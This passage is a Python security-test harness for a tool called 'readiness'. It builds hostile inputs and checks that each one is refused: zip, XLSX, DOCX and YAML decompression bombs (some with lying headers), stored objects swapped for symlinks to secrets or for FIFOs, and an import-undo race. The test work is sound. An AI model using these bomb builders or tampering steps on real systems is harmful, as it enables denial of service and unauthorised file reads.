"""The hostile inputs of issue 13, built at run time, and what each case checks.

Each case is a function that builds its inputs under the case's folder (and may change the
workspace first, as an attacker with write access to it would), then says which `readiness`
command to run, what to run after it, and what must hold. ``benchmarks/hostile.py`` runs them.

Big inputs are made cheaply and checked: a zip, XLSX or DOCX member that inflates to 1 GB is a
raw deflate stream of one compressed 1 MiB block repeated (each block ends with a full flush,
so the copies are independent), and every bomb is inflated once when built to prove its size.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import os
import random
import re
import shutil
import signal
import sqlite3
import struct
import subprocess
import sys
import time
import uuid
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

REPO = Path(__file__).resolve().parent.parent

FAMILIES = {
    "undo": "High: an undo deletes another command's file",
    "profile": "High: an imported city profile is never checked",
    "objects": "Medium: stored objects are trusted when read",
    "bombs": "Medium: decompression and parse bombs",
    "cpu": "Medium: CPU hangs",
    "csv": "Medium: CSV formula injection",
    "review": "Medium: import skips review",
    "dossier-tmp": "Medium: the dossier's temporary file has a fixed name and follows symlinks",
    "prune": "Medium: verify --prune during a multi-file attach or import",
    "traceback": "Low: tracebacks where one error: line is promised",
    "names": "Low: import skips the name checks the commands apply",
    "ids": "Low: an imported id YC-999999999",
    "unbreakable": "Low: the dossier clips unbreakable strings",
    "pypdf": "Low: pyproject.toml allows pypdf 4.0",
    "holds": "What already holds (keep it): zip slip, XXE, billion laughs, YAML tags and aliases, "
             "hostile paths, links and devices at attach, the size limit, dossier payloads",
    "control": "Controls: benign inputs made by the same builders, which must import",
}

MB = 1_000_000
MiB = 1 << 20
GB = 1_000_000_000
NEW_CITY = {"name": "Yên Châu", "country": "VN", "code": "YC"}


class NotRun(Exception):
    """The case cannot run here; the message says why."""


class SetupError(Exception):
    """A harness step before the measured command failed."""


# ---------------------------------------------------------------------------------------------
# What a case is


@dataclass
class Spec:
    args: list[str] = field(default_factory=list)
    followups: list[list[str]] = field(default_factory=list)
    check: Callable[[Ctx, Any], str | None] | None = None
    during: Callable[[Ctx, int], str | None] | None = None
    watch: list[Path] = field(default_factory=list)
    env: dict[str, str] = field(default_factory=dict)
    cwd: Path | None = None
    changes_ok: str | None = None  # why the workspace may change although the command failed
    static: Callable[[Ctx], str | None] | None = None  # no process: a check of the package
    followups_if_ok: bool = False  # run the follow-ups only when the command succeeded


@dataclass
class Case:
    family: str
    name: str
    what: str
    build: Callable[[Ctx], Spec]
    template: str = "hanoi"


_CASES: list[Case] = []


def case(family: str, name: str, what: str, template: str = "hanoi") -> Callable:
    assert family in FAMILIES, family

    def register(fn: Callable[[Ctx], Spec]) -> Callable[[Ctx], Spec]:
        _CASES.append(Case(family, name, what, fn, template))
        return fn

    return register


def all_cases() -> list[Case]:
    order = list(FAMILIES)
    return sorted(_CASES, key=lambda c: order.index(c.family))  # stable: file order within a family


@dataclass
class Ctx:
    root: Path
    ws: Path
    cache: Path
    templates: Templates
    timeout: float
    database_url: str | None = None
    main: Any = None
    followed: list[Any] = field(default_factory=list)
    cleanup: list[Callable[[], None]] = field(default_factory=list)

    def env(self, extra: dict[str, str] | None = None) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith("READINESS_")}
        env.update(READINESS_WORKSPACE=str(self.ws), READINESS_USER="hostile", COLUMNS="200",
                   PYTHONPATH=str(REPO) + os.pathsep + env.get("PYTHONPATH", ""))
        if self.database_url:
            env["READINESS_DATABASE_URL"] = self.database_url
        env.update(extra or {})
        return env

    def rd(self, *args: str, ok: bool = True, timeout: float = 180) -> subprocess.CompletedProcess:
        """A readiness command as a harness step (not measured)."""
        done = subprocess.run([sys.executable, "-m", "readiness", *args], env=self.env(), cwd=self.root,
                              capture_output=True, timeout=timeout, stdin=subprocess.DEVNULL)
        if ok and done.returncode != 0:
            raise SetupError(f"`readiness {' '.join(args)[:60]}` exit {done.returncode}: "
                             f"{done.stderr.decode('utf-8', 'replace').strip().splitlines()[-1:]}")
        return done

    def file(self, name: str, data: bytes | str) -> Path:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return path

    def db(self, sql: str, *params: Any) -> list[tuple]:
        conn = sqlite3.connect(self.ws / "readiness.sqlite3")
        try:
            return conn.execute(sql, params).fetchall()
        finally:
            conn.close()

    def attachment(self) -> tuple[str, str, Path]:
        """(record code, sha256, object path) of the template's first attachment."""
        code, sha = self.db("SELECT e.code, a.sha256 FROM attachment a JOIN evidence e ON e.id = a.evidence_id "
                            "ORDER BY e.code LIMIT 1")[0]
        return code, sha, self.ws / "files" / "objects" / sha[:2] / sha


class Templates:
    """Workspaces made once and copied for each case."""

    def __init__(self, root: Path, pg_url: str | None = None):
        self.root = root
        self.pg_url = pg_url
        self.built: dict[str, Path] = {}
        self.schemas: list[str] = []

    def _build(self, name: str) -> Path:
        if name in self.built:
            return self.built[name]
        folder = self.root / name
        if folder.exists():
            shutil.rmtree(folder)
        ctx = Ctx(root=self.root, ws=folder, cache=self.root, templates=self, timeout=0)
        self.root.mkdir(parents=True, exist_ok=True)
        if name == "hanoi":
            ctx.rd("import", "--sample", "hanoi")
        elif name == "formula":
            shutil.copytree(self._build("hanoi"), folder, symlinks=True)
            _seed_formulas(ctx)
        else:
            raise ValueError(name)
        self.built[name] = folder
        return folder

    def seed(self, name: str, ctx: Ctx) -> None:
        if name == "empty":
            return
        if name.startswith("pg"):
            if not self.pg_url:
                raise NotRun("PostgreSQL case: give --pg-url (or READINESS_HOSTILE_PG_URL)")
            schema = f"hostile_{uuid.uuid4().hex[:10]}"
            _pg_exec(self.pg_url, f'CREATE SCHEMA "{schema}"')
            self.schemas.append(schema)
            sep = "&" if "?" in self.pg_url else "?"
            ctx.database_url = f"{self.pg_url}{sep}options=-csearch_path%3D{schema}"
            ctx.ws.mkdir(parents=True)
            return
        shutil.copytree(self._build(name), ctx.ws, symlinks=True)

    def close(self) -> None:
        for schema in self.schemas:
            try:
                _pg_exec(self.pg_url, f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')
            except Exception:
                pass


def _pg_exec(url: str, sql: str) -> None:
    import psycopg

    with psycopg.connect(url.replace("postgresql+psycopg://", "postgresql://"), autocommit=True) as conn:
        conn.execute(sql)


def pg_snapshot(url: str) -> dict[str, str]:
    """Every table's rows of the schema a case's URL points at, as hashes."""
    import psycopg

    schema = re.search(r"search_path%3D(\w+)", url)
    base = url.split("?")[0].replace("postgresql+psycopg://", "postgresql://")
    state = {}
    with psycopg.connect(base, autocommit=True) as conn:
        if schema is None:
            return {"database": "unknown schema"}
        tables = [r[0] for r in conn.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = %s "
                                             "ORDER BY table_name", (schema[1],))]
        for t in tables:
            rows = conn.execute(f'SELECT * FROM "{schema[1]}"."{t}" ORDER BY 1').fetchall()
            state[f"table {t}"] = hashlib.sha256(repr(rows).encode()).hexdigest()
    return state


# ---------------------------------------------------------------------------------------------
# Builders: zip (by hand, for bombs and lying headers), XLSX, DOCX, PDF, YAML


@dataclass
class Member:
    name: str
    data: bytes  # as stored in the zip (compressed when method is 8)
    crc: int
    size: int  # uncompressed
    method: int = 8
    claimed: int | None = None  # a size the headers claim instead of the real one


def member(name: str, content: bytes | str, method: int = 8) -> Member:
    raw = content.encode("utf-8") if isinstance(content, str) else content
    if method == 0:
        return Member(name, raw, zlib.crc32(raw), len(raw), 0)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(name, c.compress(raw) + c.flush(), zlib.crc32(raw), len(raw))


def bomb(name: str, prefix: bytes, block: bytes, count: int, suffix: bytes, claimed: int | None = None) -> Member:
    """A deflated member: prefix, then ``block`` ``count`` times, then suffix, built in O(block)."""
    parts, crc = [], 0
    for data, times in ((prefix, 1), (block, count), (suffix, 1)):
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        piece = c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)
        parts.append(piece * times)
        for _ in range(times):
            crc = zlib.crc32(data, crc)
    parts.append(zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH))
    size = len(prefix) + len(block) * count + len(suffix)
    return Member(name, b"".join(parts), crc, size, 8, claimed)


def inflated_size(m: Member) -> int:
    """Inflate a member's stream for real (the bomb's proof)."""
    if m.method == 0:
        return len(m.data)
    d = zlib.decompressobj(-15)
    total, data = 0, m.data
    while data:
        total += len(d.decompress(data, 64 * MiB))
        data = d.unconsumed_tail
    total += len(d.flush())
    assert d.eof, f"{m.name}: the deflate stream does not end"
    return total


def write_zip(path: Path, members: list[Member]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    central = []
    with open(path, "wb") as f:
        for m in members:
            name = m.name.encode("utf-8")
            size = m.size if m.claimed is None else m.claimed
            offset = f.tell()
            f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, m.method, 0, 0x21, m.crc, len(m.data), size,
                                len(name), 0) + name)
            f.write(m.data)
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, m.method, 0, 0x21, m.crc,
                                       len(m.data), size, len(name), 0, 0, 0, 0, 0, offset) + name)
        start = f.tell()
        directory = b"".join(central)
        f.write(directory)
        f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), start, 0))
    return path


def assert_bomb(path: Path, m: Member, at_least: int, at_most_file: int) -> None:
    """The file is small and its member really inflates to at least ``at_least`` bytes."""
    real = inflated_size(m)
    assert real >= at_least, f"{m.name} inflates to {real:,} bytes, not {at_least:,}"
    assert path.stat().st_size <= at_most_file, f"{path.name} is {path.stat().st_size:,} bytes"
    with zipfile.ZipFile(path) as z:  # the container itself is a valid zip
        info = z.getinfo(m.name)
        assert info.file_size == (m.claimed if m.claimed is not None else real)


_NS_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
_NS_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_NS_ODR = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_NS_SS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _col(i: int) -> str:
    return chr(ord("A") + i)


def sheet_xml(rows: list[list[str]], dimension: str | None = None, doctype: str = "", cells: str | None = None) -> str:
    """A worksheet with inline strings (``cells`` replaces the generated <sheetData> content)."""
    body = []
    for r, values in enumerate(rows, start=1):
        tds = "".join(f'<c r="{_col(c)}{r}" t="inlineStr"><is><t>{_esc(v)}</t></is></c>' for c, v in enumerate(values))
        body.append(f'<row r="{r}">{tds}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    data = cells if cells is not None else "".join(body)
    return f'{_XML}{doctype}<worksheet xmlns="{_NS_SS}">{dim}<sheetData>{data}</sheetData></worksheet>'


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def write_xlsx(path: Path, sheet: str | Member, shared: str | Member | None = None) -> Path:
    overrides = ('<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
                 '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
    rels = f'<Relationship Id="rId1" Type="{_NS_ODR}/worksheet" Target="worksheets/sheet1.xml"/>'
    if shared is not None:
        overrides += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                      'officedocument.spreadsheetml.sharedStrings+xml"/>')
        rels += f'<Relationship Id="rId2" Type="{_NS_ODR}/sharedStrings" Target="sharedStrings.xml"/>'
    members = [
        member("[Content_Types].xml", f'{_XML}<Types xmlns="{_NS_CT}"><Default Extension="rels" ContentType='
               f'"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
               f'ContentType="application/xml"/>{overrides}</Types>'),
        member("_rels/.rels", f'{_XML}<Relationships xmlns="{_NS_REL}"><Relationship Id="rId1" '
               f'Type="{_NS_ODR}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        member("xl/workbook.xml", f'{_XML}<workbook xmlns="{_NS_SS}" xmlns:r="{_NS_ODR}"><sheets><sheet '
               f'name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        member("xl/_rels/workbook.xml.rels", f'{_XML}<Relationships xmlns="{_NS_REL}">{rels}</Relationships>'),
        sheet if isinstance(sheet, Member) else member("xl/worksheets/sheet1.xml", sheet),
    ]
    if shared is not None:
        members.append(shared if isinstance(shared, Member) else member("xl/sharedStrings.xml", shared))
    return write_zip(path, members)


_NS_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def document_xml(paragraphs: list[str], doctype: str = "", raw: str | None = None) -> str:
    body = raw if raw is not None else "".join(f"<w:p><w:r><w:t>{_esc(p)}</w:t></w:r></w:p>" for p in paragraphs)
    return f'{_XML}{doctype}<w:document xmlns:w="{_NS_W}"><w:body>{body}</w:body></w:document>'


def write_docx(path: Path, document: str | Member, title: str | None = None) -> Path:
    members = [
        member("[Content_Types].xml", f'{_XML}<Types xmlns="{_NS_CT}"><Default Extension="xml" '
               f'ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
               f'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
        document if isinstance(document, Member) else member("word/document.xml", document),
    ]
    if title:
        members.append(member("docProps/core.xml", f'{_XML}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/'
                              f'package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
                              f'<dc:title>{_esc(title)}</dc:title></cp:coreProperties>'))
    return write_zip(path, members)


def write_pdf(path: Path, lines: list[str] = (), *, title: str | None = None, content: bytes | None = None,
              pages: int = 1, raw_stream: bytes | None = None) -> Path:
    """A PDF made with pypdf: text lines on one page, or one content stream shared by ``pages`` pages.

    ``raw_stream`` is put in as the shared stream's already-deflated bytes (for a flate bomb).
    """
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject, StreamObject

    writer = PdfWriter()
    font = writer._add_object(DictionaryObject({NameObject("/Type"): NameObject("/Font"),
                                                NameObject("/Subtype"): NameObject("/Type1"),
                                                NameObject("/BaseFont"): NameObject("/Helvetica")}))
    resources = DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})})
    if raw_stream is not None:
        stream = StreamObject()
        stream._data = raw_stream
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        stream[NameObject("/Length")] = NumberObject(len(raw_stream))
    else:
        if content is None:
            ops = ["BT /F1 12 Tf 72 760 Td 14 TL"] + [f"({_pdf_text(line)}) Tj T*" for line in lines] + ["ET"]
            content = "\n".join(ops).encode("latin-1")
        stream = DecodedStreamObject()
        stream.set_data(content)
        stream = stream.flate_encode(level=9)
    ref = writer._add_object(stream)
    for _ in range(pages):
        page = writer.add_blank_page(612, 792)
        page[NameObject("/Contents")] = ref
        page[NameObject("/Resources")] = resources
    if title is not None:
        writer.add_metadata({"/Title": title})
    with open(path, "wb") as f:
        writer.write(f)
    _ = ArrayObject  # keep the import list honest about what pypdf offers
    return path


def _pdf_text(line: str) -> str:
    return line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def evidence_yaml(records: list[dict], city: dict | None = None, units: list | None = None,
                  audit: list | None = None) -> str:
    doc: dict[str, Any] = {"format": "readiness-evidence/1", "city": city or dict(NEW_CITY)}
    if units:
        doc["units"] = units
    doc["records"] = records
    if audit:
        doc["audit"] = audit
    return yaml.safe_dump(doc, allow_unicode=True, sort_keys=False, width=10**9)


def record(title: str, **extra: Any) -> dict:
    return {"kind": "event", "title": {"en": title}, "start": "2025-10-01", **extra}


HANOI = {"name": "Hà Nội", "country": "VN", "code": "HN"}


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def cached(ctx: Ctx, name: str, make: Callable[[Path], None]) -> Path:
    """A big input built once per run and linked into the case folder."""
    path = ctx.cache / name
    if not path.exists():
        tmp = path.with_name(path.name + ".tmp")
        make(tmp)
        os.replace(tmp, path)
    target = ctx.root / name
    os.link(path, target)
    return target


# ---------------------------------------------------------------------------------------------
# Checks shared by cases


def refused(ctx: Ctx, m: Any) -> str | None:
    return None if m.exit == 1 else ("accepted (exit 0)" if m.exit == 0 else None)


def stdout_lacks(marker: str, what: str) -> Callable[[Ctx, Any], str | None]:
    def check(ctx: Ctx, m: Any) -> str | None:
        return f"{what} in the output" if marker.encode() in m.stdout else None
    return check


def db_lacks(marker: str, what: str) -> Callable[[Ctx, Any], str | None]:
    def check(ctx: Ctx, m: Any) -> str | None:
        for table in ("evidence", "unit", "city", "attachment", "audit_event"):
            cols = [r[1] for r in ctx.db(f"PRAGMA table_info({table})")]
            for col in cols:
                if ctx.db(f'SELECT 1 FROM {table} WHERE CAST("{col}" AS TEXT) LIKE ? LIMIT 1', f"%{marker}%"):
                    return f"{what} stored in {table}.{col}"
        return None
    return check


def both(*checks: Callable[[Ctx, Any], str | None]) -> Callable[[Ctx, Any], str | None]:
    def check(ctx: Ctx, m: Any) -> str | None:
        found = [p for c in checks if (p := c(ctx, m))]
        return "; ".join(found) or None
    return check


def names_clean(table: str, column: str = "name", limit: int = 200) -> Callable[[Ctx, Any], str | None]:
    """No stored name longer than the commands allow or holding control characters (they refuse both)."""
    def check(ctx: Ctx, m: Any) -> str | None:
        for (name,) in ctx.db(f"SELECT {column} FROM {table}"):
            if len(name) > limit:
                return f"a {table} {column} of {len(name):,} characters stored (the commands allow {limit})"
            if re.search(r"[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]", name):
                return f"a {table} {column} with control characters stored: {name[:40]!r}"
        return None
    return check


# ---------------------------------------------------------------------------------------------
# High: an undo deletes another command's file


def _wait_for(path: Path, pid: int, limit: float = 25) -> bool:
    deadline = time.time() + limit
    while not path.exists():
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return False
        if time.time() > deadline:
            return False
        time.sleep(0.002)
    return True


def _while_paused(ctx: Ctx, pid: int, args: list[str], grace: float = 10) -> tuple[subprocess.CompletedProcess, bool]:
    """Run a readiness command while ``pid`` is paused; (its result, whether it had to wait for ``pid``).

    A command that waits on a lock the paused one holds (the right fix for some races) cannot
    finish while it is paused: after ``grace`` seconds the paused one is let go, and both end.
    """
    proc = subprocess.Popen([sys.executable, "-m", "readiness", *args], env=ctx.env(), cwd=ctx.root,
                            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    waited = False
    try:
        out, err = proc.communicate(timeout=grace)
    except subprocess.TimeoutExpired:
        waited = True
        os.kill(pid, signal.SIGCONT)
        out, err = proc.communicate(timeout=180)
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err), waited


def _zeros_file(ctx: Ctx, name: str, size: int) -> Path:
    path = ctx.root / name
    with open(path, "wb") as f:
        f.truncate(size)  # sparse: costs nothing to make, reads as zeros
    return path


@case("undo", "import-undo-vs-attach", "import of a zip whose 2nd file has a wrong hash; meanwhile `evidence attach` "
      "stores the 1st file's bytes; the import's undo must not remove them")
def _(ctx: Ctx) -> Spec:
    first = b"UNDO-VICTIM the minutes of the 2025 forum\n" * 50
    big = 150 * MB
    records = [record("first", attachments=[{"file": f"files/{sha256(first)}", "name": "minutes.txt",
                                             "sha256": sha256(first)}]),
               record("second", attachments=[{"file": "files/big", "name": "video.bin", "sha256": "0" * 64}])]
    archive = write_zip(ctx.root / "two.zip", [member("evidence.yaml", evidence_yaml(records, HANOI)),
                                               member(f"files/{sha256(first)}", first),
                                               bomb("files/big", b"", b"\0" * MiB, big // MiB, b"")])
    loose = ctx.file("minutes.txt", first)
    target = ctx.ws / "files" / "objects" / sha256(first)[:2] / sha256(first)

    def during(ctx: Ctx, pid: int) -> str | None:
        if not _wait_for(target, pid):
            return "FAIL: race not exercised: the import never stored the first file while running"
        os.kill(pid, signal.SIGSTOP)
        try:
            done, waited = _while_paused(ctx, pid, ["evidence", "attach", "HN-0001", str(loose)])
        finally:
            try:
                os.kill(pid, signal.SIGCONT)
            except ProcessLookupError:  # resumed while the attach waited, and finished since
                pass
        if done.returncode != 0:
            return f"FAIL: the concurrent attach failed: {done.stderr.decode()[-120:]}"
        return ("the attach waited for the paused import, then committed" if waited
                else "the attach committed while the import was paused after storing the file")

    def check(ctx: Ctx, m: Any) -> str | None:
        if m.exit == 0:
            return "the import with a wrong hash succeeded"
        if not target.exists():
            return "the undo removed a file HN-0001's new attachment points to"
        return None

    return Spec(["import", str(archive)], followups=[["verify"]], during=during, check=check,
                changes_ok="a concurrent attach changed it")


# ---------------------------------------------------------------------------------------------
# High: an imported city profile is never checked

def _profile_case(ctx: Ctx, profile: Any, as_zip: bool = False, every: bool = False) -> Spec:
    city = {**NEW_CITY, "profile": profile}
    text = evidence_yaml([record("Lifelong learning week")], city)
    if as_zip:
        source = write_zip(ctx.root / "yc.zip", [member("evidence.yaml", text)])
    else:
        source = ctx.file("yc.yaml", text)
    name = NEW_CITY["name"]
    then = [["score", "--city", name], ["city", "show", name]]
    if every:  # what the issue names: the all-cities view, the dossier, and the only repair
        then += [["score"], ["dossier", "--city", name, "--format", "html", "-o", str(ctx.root / "d.html")],
                 ["city", "set", name, "population", "--clear"]]
    def check(ctx: Ctx, m: Any) -> str | None:
        # every value in these profiles is one `city set` refuses, so none may be stored
        stored = ctx.db("SELECT profile FROM city WHERE code = 'YC'")
        if stored and stored[0][0] not in (None, "{}", "null"):
            return f"stored a profile `city set` would refuse: {stored[0][0][:50]}"
        return None

    return Spec(["import", str(source)], followups=then, followups_if_ok=True, check=check)


@case("profile", "population-abc", "YAML import of a new city whose profile says population: abc; then score, "
      "score (all cities), city show, dossier, city set --clear")
def _(ctx: Ctx) -> Spec:
    return _profile_case(ctx, {"population": {"value": "abc", "year": 2024}}, every=True)


@case("profile", "population-bare-abc", "profile population: abc (not even a mapping)")
def _(ctx: Ctx) -> Spec:
    return _profile_case(ctx, {"population": "abc"})


@case("profile", "challenge-99", "profile challenges: {literacy: 99}")
def _(ctx: Ctx) -> Spec:
    return _profile_case(ctx, {"challenges": {"literacy": 99}}, every=True)


@case("profile", "profile-list", "profile is a list, and an unknown field")
def _(ctx: Ctx) -> Spec:
    return _profile_case(ctx, [1, 2, {"evil_field": {"value": 1}}])


@case("profile", "zip-population-abc", "the same population: abc in an exported zip's evidence.yaml")
def _(ctx: Ctx) -> Spec:
    return _profile_case(ctx, {"population": {"value": "abc", "year": 2024}, "challenges": {"literacy": "x"}},
                         as_zip=True)


# ---------------------------------------------------------------------------------------------
# Medium: stored objects are trusted when read

SECRET = "SECRET-MARKER-7f3a9c the key to another city's files"


def _pdf_holds(path: Path, marker: str) -> bool:
    from pypdf import PdfReader

    data = path.read_bytes()
    if marker.encode() in data:
        return True
    for contents in PdfReader(io.BytesIO(data)).attachments.values():
        if any(marker.encode() in c for c in contents):
            return True
    return False


def _zip_holds(path: Path, marker: str) -> bool:
    with zipfile.ZipFile(path) as z:
        return any(marker.encode() in z.read(n) for n in z.namelist())


def _object_case(ctx: Ctx, how: str, command: str) -> Spec:
    code, sha, obj = ctx.attachment()
    secret = ctx.file("secret.txt", SECRET + "\n")
    obj.unlink()
    if how == "link":
        obj.symlink_to(secret)
    elif how == "replaced":
        obj.write_bytes(b"TAMPERED " + b"x" * 200)
    elif how == "fifo":
        os.mkfifo(obj)
    out = ctx.root / ("d.pdf" if command == "dossier" else "e.zip")
    args = ["dossier" if command == "dossier" else "export", "--city", "Hanoi", "-o", str(out)]

    def check(ctx: Ctx, m: Any) -> str | None:
        if m.exit == 1:
            return None if code in m.stderr else f"refused without naming the record {code}"
        if m.exit != 0 or not out.exists():
            return None
        holds = _pdf_holds if command == "dossier" else _zip_holds
        if how == "link" and holds(out, "SECRET-MARKER-7f3a9c"):
            return f"a file outside the store was pulled in through the link ({out.suffix[1:]} holds it)"
        if how == "replaced" and holds(out, "TAMPERED"):
            return f"changed bytes written under the original SHA-256 of {code}'s file"
        return None

    return Spec(args, check=check)


@case("objects", "link-in-store-dossier", "a stored object replaced by a symlink to a file outside; dossier (PDF)")
def _(ctx: Ctx) -> Spec:
    return _object_case(ctx, "link", "dossier")


@case("objects", "link-in-store-export", "a stored object replaced by a symlink to a file outside; export")
def _(ctx: Ctx) -> Spec:
    return _object_case(ctx, "link", "export")


@case("objects", "replaced-bytes-dossier", "a stored object's bytes replaced; dossier (PDF)")
def _(ctx: Ctx) -> Spec:
    return _object_case(ctx, "replaced", "dossier")


@case("objects", "replaced-bytes-export", "a stored object's bytes replaced; export")
def _(ctx: Ctx) -> Spec:
    return _object_case(ctx, "replaced", "export")


@case("objects", "fifo-in-store-export", "a stored object replaced by a FIFO (an open() that never returns); export")
def _(ctx: Ctx) -> Spec:
    return _object_case(ctx, "fifo", "export")


# ---------------------------------------------------------------------------------------------
# Medium: decompression and parse bombs


def _zip_yaml_zeros(ctx: Ctx, mb: int) -> Path:
    def make(tmp: Path) -> None:
        n = mb * MB // 4
        m = bomb("evidence.yaml", b"", b"- 0\n" * (MiB // 4), n // (MiB // 4), b"")
        write_zip(tmp, [m])
        assert_bomb(tmp, m, mb * MB * 0.95, 200_000)
    return cached(ctx, f"zeros-{mb}mb.zip", make)


@case("bombs", "zip-yaml-zeros-20MB", "export zip whose evidence.yaml (honest header, under the 50 MB cap) "
      "is a 20 MB YAML list of zeros, ~20 KB zipped")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(_zip_yaml_zeros(ctx, 20))])


@case("bombs", "zip-yaml-lying-header", "evidence.yaml whose zip headers claim 1 kB but which inflates to 1 GB")
def _(ctx: Ctx) -> Spec:
    def make(tmp: Path) -> None:
        m = bomb("evidence.yaml", b"records:\n", b"#" * (MiB - 1) + b"\n", GB // MiB + 1, b"", claimed=1000)
        write_zip(tmp, [m])
        assert_bomb(tmp, m, GB, 2 * MB)
    return Spec(["import", str(cached(ctx, "lying-yaml.zip", make))])


def _member_bomb_zip(ctx: Ctx, claimed: int | None) -> Path:
    def make(tmp: Path) -> None:
        bomb_member = bomb("files/video.bin", b"", b"\0" * MiB, -(-GB // MiB), b"", claimed=claimed)
        text = evidence_yaml([record("video", attachments=[{"file": "files/video.bin", "name": "video.bin"}])], HANOI)
        write_zip(tmp, [member("evidence.yaml", text), bomb_member])
        assert_bomb(tmp, bomb_member, GB, 2 * MB)
    return cached(ctx, f"member-bomb-{claimed}.zip", make)


@case("bombs", "zip-member-1GB", "a 1 MB zip whose attached file inflates to 1 GB, honest header (limit 200 MB)")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(_member_bomb_zip(ctx, None))], check=refused)


@case("bombs", "zip-member-1GB-lying", "the same member, its headers claiming 1,000 bytes")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(_member_bomb_zip(ctx, 1000))], check=refused)


@case("bombs", "xlsx-shared-string-1GB", "a ~1 MB XLSX whose one shared string is 1 GB")
def _(ctx: Ctx) -> Spec:
    def make(tmp: Path) -> None:
        shared = bomb("xl/sharedStrings.xml", f'{_XML}<sst xmlns="{_NS_SS}" count="1" uniqueCount="1"><si><t>'.encode(),
                      b"A" * MiB, -(-GB // MiB), b"</t></si></sst>")
        cells = ('<row r="1"><c r="A1" t="inlineStr"><is><t>kind</t></is></c><c r="B1" t="inlineStr"><is><t>title'
                 '</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>event</t></is></c><c r="B2" t="s">'
                 '<v>0</v></c></row>')
        write_xlsx(tmp, sheet_xml([], cells=cells), shared)
        assert_bomb(tmp, shared, GB, 2 * MB)
    return Spec(["import", str(cached(ctx, "shared-1gb.xlsx", make)), "--city", "Hanoi"])


@case("bombs", "docx-text-1GB", "a ~1 MB DOCX whose document.xml is 1 GB of text (under its 1,048 MB check); draft")
def _(ctx: Ctx) -> Spec:
    def make(tmp: Path) -> None:
        doc = bomb("word/document.xml", f'{_XML}<w:document xmlns:w="{_NS_W}"><w:body><w:p><w:r><w:t>'.encode(),
                   b"A" * MiB, -(-GB // MiB), b"</w:t></w:r></w:p></w:body></w:document>")
        write_docx(tmp, doc)
        assert_bomb(tmp, doc, GB, 2 * MB)
    return Spec(["evidence", "draft", str(cached(ctx, "text-1gb.docx", make)), "--city", "Hanoi", "--dry-run"])


@case("bombs", "docx-40M-paragraphs", "a DOCX of 40 million empty paragraphs (240 MB of XML, ~250 kB zipped); draft")
def _(ctx: Ctx) -> Spec:
    def make(tmp: Path) -> None:
        doc = bomb("word/document.xml", f'{_XML}<w:document xmlns:w="{_NS_W}"><w:body>'.encode(),
                   b"<w:p/>" * (MiB // 6), 40_000_000 // (MiB // 6), b"</w:body></w:document>")
        write_docx(tmp, doc)
        assert_bomb(tmp, doc, 230 * MB, 1 * MB)
    return Spec(["evidence", "draft", str(cached(ctx, "paragraphs.docx", make)), "--city", "Hanoi", "--dry-run"])


def _zeros_yaml(ctx: Ctx, mb: int) -> Path:
    def make(tmp: Path) -> None:
        tmp.write_bytes(b"- 0\n" * (mb * MB // 4))
    return cached(ctx, f"zeros-{mb}mb.yaml", make)


@case("bombs", "yaml-zeros-5MB", "a 5 MB YAML list of zeros; import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(_zeros_yaml(ctx, 5))])


@case("bombs", "yaml-zeros-40MB", "a 40 MB YAML list of zeros (under the 50 MB cap); import")
def _(ctx: Ctx) -> Spec:
    return Spec(["import", str(_zeros_yaml(ctx, 40))])


def _framework_zeros(ctx: Ctx) -> None:
